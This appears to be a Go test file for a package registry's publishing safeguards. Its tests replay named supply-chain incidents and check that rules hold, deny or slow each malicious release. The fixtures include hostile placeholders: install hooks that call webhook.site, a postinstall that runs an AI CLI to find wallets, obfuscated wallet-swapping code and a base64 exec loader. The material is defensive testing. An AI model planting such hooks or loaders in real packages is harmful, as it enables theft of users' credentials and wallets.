package app_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/hullmark/hullmark/internal/evidence"
	"github.com/hullmark/hullmark/internal/publish"
	"github.com/hullmark/hullmark/internal/purl"
)

// Each test replays an incident as docs/explain/incidents.md tells it, and names what stopped it.

func TestIncidentUltralyticsALeftOverTokenPublishesAfterTheTrustedPublisher(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	run := w.workflow(evidence.Publish, "@acme/ui")
	w.publishAs(run, "@acme/ui", "8.3.43", plain("1"))
	w.later(72 * time.Hour)
	if got := w.publishAs("maintainer", "@acme/ui", "8.3.45", plain("miner")); got.code != "trust-downgrade" {
		t.Errorf("publishing: %+v", got)
	}
	w.stopped("@acme/ui", "8.3.45", "deny", "trust-downgrade")
	if got := w.stageAs("maintainer", "@acme/ui", "8.3.46", plain("miner")); got.code != "trust-downgrade" {
		t.Errorf("staging is no way around: %+v", got)
	}
}

func TestIncidentS1ngularityAStolenTokenAddsAPostinstall(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	w.publishAs("maintainer", "@acme/nx", "21.4.0", plain("1"))
	got := w.publishAs("maintainer", "@acme/nx", "21.5.0", scripts("1", map[string]any{"postinstall": "node telemetry.js"},
		map[string]string{"telemetry.js": "require('child_process').execSync('claude -p find_wallets')"}))
	if got.status != http.StatusAccepted || !strings.Contains(got.notice, "install script (postinstall)") {
		t.Errorf("%+v", got)
	}
	w.stopped("@acme/nx", "21.5.0", "hold", publish.HookNew)
	w.offered("@acme/nx", "21.4.0", true)
}

// wallet is the shape of the code that replaced addresses in the pages of whoever had bundled it.
var wallet = "const _0x1 = 1;" + strings.Repeat("_0x180f[_0x3ab2]=_0x550d(_0x9f1c);", 200)

func TestIncidentChalkAndDebugAPhishedAccountPublishesFromADeviceOfTheAttackers(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	w.publishAs("maintainer", "@acme/debug", "4.4.1", plain("exports.log = 1"))
	w.later(time.Hour)
	w.changed["maintainer"] = w.app.Record.Now().Add(-20 * time.Minute) // the second factor was "reset"
	w.publishAs("maintainer", "@acme/debug", "4.4.2", plain(wallet))
	w.stopped("@acme/debug", "4.4.2", "hold", publish.CredentialChanged)
}

func TestIncidentChalkAndDebugWithoutAChangeOfCredentialsTheRuleAboutOpaqueFilesHoldsItWhereItIsToldTo(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	w.publishAs("maintainer", "@acme/debug", "4.4.1", plain("exports.log = 1"))
	got := w.publishAs("maintainer", "@acme/debug", "4.4.2", plain(wallet))
	if !strings.Contains(got.notice, "noted (obfuscated)") {
		t.Errorf("by default the publisher is warned: %+v", got)
	}
	w.offered("@acme/debug", "4.4.2", true) // which stops nothing
	w.set(publish.Scope{Ecosystem: purl.NPM, Namespace: "@acme"}, publish.Settings{Rules: map[string]publish.Stage{publish.Obfuscated: publish.Wait}})
	w.publishAs("maintainer", "@acme/strip", "1.0.0", plain("exports.strip = 1"))
	w.publishAs("maintainer", "@acme/strip", "1.0.1", plain(wallet))
	w.stopped("@acme/strip", "1.0.1", "hold", publish.Obfuscated)
}

func TestIncidentShaiHuludAWormRepublishesWhatItsVictimMayPublish(t *testing.T) {
	t.Parallel()
	for _, wave := range []struct {
		name, hook, file string
	}{
		{"the first wave", "postinstall", "bundle.js"},
		{"the second wave", "preinstall", "setup_bun.js"},
	} {
		t.Run(wave.name, func(t *testing.T) {
			t.Parallel()
			w := newAttack(t)
			for i := range 5 {
				w.publishAs("maintainer", fmt.Sprint("@acme/victim", i), "1.0.0", plain("1"))
			}
			for i := range 5 {
				name := fmt.Sprint("@acme/victim", i)
				w.publishAs("maintainer", name, "1.0.1", scripts("1", map[string]any{wave.hook: "node " + wave.file},
					map[string]string{wave.file: "fetch('https://webhook.site/bb8ca5f6')"}))
				w.stopped(name, "1.0.1", "hold", publish.HookNew)
			}
			held, total, err := w.publish.Waiting(t.Context(), w.admin, purl.NPM, "", 0, 100)
			must(t, err)
			if total != 5 || fmt.Sprint(held[0].Points[len(held[0].Points)-1].Rule) == "" {
				t.Errorf("%d wait", total)
			}
		})
	}
}

func TestIncidentAWormThatNeedsNoInstallScriptIsSlowedDown(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	through, held := 0, 0
	for i := range 42 {
		for patch := range 2 {
			w.later(4 * time.Second) // 84 versions in six minutes
			got := w.publishAs("maintainer", fmt.Sprint("@acme/victim", i), fmt.Sprint("1.0.", patch), plain("1"))
			if got.status == http.StatusAccepted {
				held++
				continue
			}
			through++
		}
	}
	if through != 30 || held != 54 {
		t.Errorf("%d went through and %d wait; want 30 and 54", through, held)
	}
	w.stopped("@acme/victim41", "1.0.1", "hold", publish.Burst)
}

func TestIncidentAxiosAMaintainersTokenPublishesBesideTheTrustedPublisher(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	w.publishAs(w.workflow(evidence.Publish, "@acme/axios"), "@acme/axios", "1.14.0", plain("1"))
	w.later(24 * time.Hour)
	if got := w.publishAs("maintainer", "@acme/axios", "1.14.1", plain("1")); got.code != "trust-downgrade" {
		t.Errorf("%+v", got)
	}
	w.stopped("@acme/axios", "1.14.1", "deny", "trust-downgrade")
}

func TestIncidentAxiosADependencyThatCameOutADayBefore(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	w.user("attacker", "")
	attacker, err := w.app.Accounts.AuthenticateSecret(t.Context(), "token", w.ownerToken("attacker"), "127.0.0.1:1")
	must(t, err)
	must(t, w.app.Accounts.CreateOrganisation(t.Context(), attacker, "plain"))
	must(t, w.app.Accounts.ClaimNamespace(t.Context(), attacker, "plain", purl.NPM, "plain-crypto-js", "public"))
	w.publishAs("maintainer", "@acme/axios", "1.14.0", plain("1"))
	w.publishAs("attacker", "plain-crypto-js", "4.2.0", plain("1"))
	w.later(18 * time.Hour)
	p := plain("1")
	p.manifest = map[string]any{"dependencies": map[string]any{"plain-crypto-js": "^4.2.1"}}
	w.publishAs("maintainer", "@acme/axios", "1.14.1", p)
	w.stopped("@acme/axios", "1.14.1", "hold", publish.DependencyYoung)

	w.later(30 * 24 * time.Hour)
	w.publishAs("maintainer", "@acme/other", "1.0.0", plain("1"))
	w.publishAs("maintainer", "@acme/other", "1.0.1", p) // by then it is one name among others
	w.offered("@acme/other", "1.0.1", true)
}

func TestIncidentTanStackTheProjectsOwnPipelinePublishesWithGenuineClaims(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	names := []string{"@acme/router", "@acme/start"}
	for _, name := range names {
		w.publishAs("maintainer", name, "1.0.0", plain("1"))
	}
	run := w.workflow(evidence.Stage, names...) // its trusted publisher may stage and not publish
	for _, name := range names {
		if got := w.publishAs(run, name, "1.0.1", plain("stolen")); got.code != "stage-only" {
			t.Errorf("publishing: %+v", got)
		}
		staged := w.stageAs(run, name, "1.0.1", plain("stolen"))
		w.stopped(name, "1.0.1", "hold", publish.Staged)
		if got := w.send("POST", "/-/stage/"+staged.id+"/approve", run, ""); got.status != http.StatusForbidden {
			t.Errorf("the pipeline approves: %+v", got)
		}
		w.offered(name, "1.0.1", false)
	}
	staged := w.stageAs(run, names[0], "1.0.2", plain("2"))
	if got := w.send("POST", "/-/stage/"+staged.id+"/approve", "colleague", ""); got.status != http.StatusOK {
		t.Errorf("a person approves: %+v", got)
	}
	w.offered(names[0], "1.0.2", true)
}

func TestIncidentTanStackApprovalIsNotForPipelinesEvenIfOneMayPublish(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	staged := w.stageAs("maintainer", "@acme/router", "1.0.0", plain("1"))
	run := w.workflow(evidence.Publish, "@acme/router")
	if got := w.send("POST", "/-/stage/"+staged.id+"/approve", run, ""); got.code != "person-required" {
		t.Errorf("%+v", got)
	}
}

// What claims and provenance say of this pipeline is true, and so they stop nothing: with a trusted publisher
// that may publish, and a version that looks like the one before, the release is offered.
func TestIncidentTanStackIsNotStoppedByClaimPolicy(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	run := w.workflow(evidence.Publish, "@acme/router")
	w.publishAs(run, "@acme/router", "1.0.0", plain("1"))
	w.publishAs(run, "@acme/router", "1.0.1", plain("stolen"))
	w.offered("@acme/router", "1.0.1", true)
}

func TestIncidentLitellmAPlainTokenPublishesCodeThatUnpacksItself(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	w.set(publish.Scope{Ecosystem: purl.NPM, Namespace: "@acme"}, publish.Settings{Rules: map[string]publish.Stage{publish.Obfuscated: publish.Wait}})
	clean := pkg{files: map[string]string{"proxy_server.py": "print('ok')"}}
	w.publishAs("maintainer", "@acme/litellm", "1.82.6", clean)
	dirty := pkg{files: map[string]string{"proxy_server.py": "import base64\nexec(base64.b64decode('" + strings.Repeat("aW1wb3J0", 1500) + "'))"}}
	w.publishAs("maintainer", "@acme/litellm", "1.82.7", dirty)
	w.stopped("@acme/litellm", "1.82.7", "hold", publish.Obfuscated)
}

func TestIncidentRubyGemsFloodNewAccountsPublishNewNames(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	w.user("bot", "")
	for i := range 20 {
		name := fmt.Sprint("flood", i)
		if got := w.publishAs("bot", name, "1.0.0", plain("1")); got.code != "namespace-unowned" {
			t.Errorf("%+v", got)
		}
		w.stopped(name, "1.0.0", "deny", "namespace-unowned")
	}
}

func TestIncidentOldReleasesAreNotPoisoned(t *testing.T) {
	t.Parallel()
	w := newAttack(t)
	w.publishAs("maintainer", "@acme/ui", "1.0.0", plain("1"))
	w.later(400 * 24 * time.Hour)
	if got := w.publishAs("maintainer", "@acme/ui", "1.0.0", plain("poison")); got.code != "version-exists" {
		t.Errorf("%+v", got)
	}
}
